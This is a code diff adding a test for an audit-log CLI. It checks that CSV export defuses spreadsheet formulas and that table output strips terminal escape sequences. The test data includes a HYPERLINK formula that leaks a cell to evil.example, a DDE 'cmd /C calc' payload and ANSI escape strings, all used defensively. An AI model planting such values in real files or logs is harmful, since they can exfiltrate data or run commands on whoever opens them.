@@ -15,6 +15,7 @@ import yaml
 from click.testing import CliRunner
 from kaudit_store_data import export, index_path, log_events, log_lines, make_config, record_traffic
 
+import kaudit
 from kaudit.cli import main
 
 START = datetime(2026, 8, 1, tzinfo=UTC)
@@ -201,3 +202,36 @@ def test_without_a_store_the_configured_log_is_scanned(tmp_path: Path) -> None:
     assert [orjson.loads(x)["event_id"] for x in result.stdout_bytes.splitlines()] == [
         e["event_id"] for e in reversed(log_events(config))
     ]
+
+
+def test_what_clients_chose_is_text_in_a_spreadsheet_and_inert_in_a_terminal(
+    tmp_path: Path,
+) -> None:
+    config = make_config(tmp_path, destinations=[])
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    escape = "\x1b]0;owned\x07\x1b[2J"
+    with kaudit.open(config) as session:
+        session.emit("topic.deleted", actor={"type": "user", "id": "User:mallory", "client_id": formula},
+                     resource="topic:payments", error="+cmd|' /C calc'!A0")  # fmt: skip
+        session.emit("topic.deleted", actor={"type": "user", "id": f"User:{escape}", "client_id": "-2+3"},
+                     resource="@SUM(1+1):orders")  # fmt: skip
+    source = str(config.log_dir)
+
+    exported = search(source, "-o", "csv")
+    assert exported.exit_code == 0, exported.output
+    rows = list(csv.DictReader(io.StringIO(exported.output)))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert "'" + formula in cells and "'-2+3" in cells and "'+cmd|' /C calc'!A0" in cells
+    counted = search(source, "--count-by", "resource", "-o", "csv")
+    assert counted.exit_code == 0, counted.output
+    groups = [row["resource"] for row in csv.DictReader(io.StringIO(counted.output))]
+    assert sorted(groups) == ["'@sum(1+1):orders", "topic:payments"]
+
+    table = search(source, "-o", "table")
+    assert table.exit_code == 0, table.output
+    assert "\x1b" not in table.output and "\x07" not in table.output
+    assert "User:\\x1b]0;owned" in table.output
+    # JSON stays the recorded event, escaped by JSON itself.
+    line = search(source, "-o", "jsonl").stdout_bytes.splitlines()[0]
+    assert b"\x1b" not in line and orjson.loads(line)["actor"]["id"] == f"User:{escape}"
